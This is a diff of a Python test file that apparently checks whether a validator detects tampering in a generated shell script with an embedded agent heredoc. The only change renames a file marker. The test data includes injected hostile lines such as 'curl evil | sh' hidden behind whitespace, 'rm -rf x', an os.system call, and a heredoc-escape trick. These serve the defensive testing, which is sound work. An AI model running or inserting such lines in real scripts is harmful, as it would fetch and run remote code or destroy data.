@@ -148,7 +148,7 @@ def line_of(text: str, part: str) -> int:
     [
         ("--pids-limit=-1", "--pids-limit=9", "story, line {}"),
         ("--mpi=none", "--mpi=pmix", "story, line {}"),
-        ("\n#### agent/protocol.py\n", "\nimport this\n#### agent/protocol.py\n", "agent, line {+1}"),
+        ("\n#### agent/wire/codec.py\n", "\nimport this\n#### agent/protocol.py\n", "agent, line {+1}"),
         ("\n# ---- 2. story", "\nrm -rf x\n# ---- 2. story", "story, line {+1}"),
         ("\nexit\n", "\ntrue\n", "text between story and agent, line {+1}"),
         ("\nAGENT\n", "\nAGENT\nevil\n", "text after the agent, line {+2}"),
@@ -264,9 +264,9 @@ ATTACKS = {
     "commands behind blanks": instead("main() {", f"main() {{{' ' * 500}curl evil | sh"),
     # agent
     "agent that runs in bash": instead(": <<'AGENT'", ": <<AGENT"),
-    "line in the agent": after("\n#### agent/protocol.py\n", "import os; os.system('evil')\n"),
+    "line in the agent": after("\n#### agent/wire/codec.py\n", "import os; os.system('evil')\n"),
     "file more": before(AGENT_END, "\n#### agent/evil.py\nimport os"),
-    "end of the agent inside": after("\n#### agent/protocol.py\n", "AGENT\ncurl evil | sh\n: <<'AGENT'\n"),
+    "end of the agent inside": after("\n#### agent/wire/codec.py\n", "AGENT\ncurl evil | sh\n: <<'AGENT'\n"),
     "second agent": after(AGENT_END, ": <<'AGENT'\nevil\nAGENT\n"),
     "first of two agents": before("\n# ---- 3. agent", "\n: <<'AGENT'\nevil\nAGENT\n"),
     "command at the end": lambda text: text + "curl evil | sh\n",
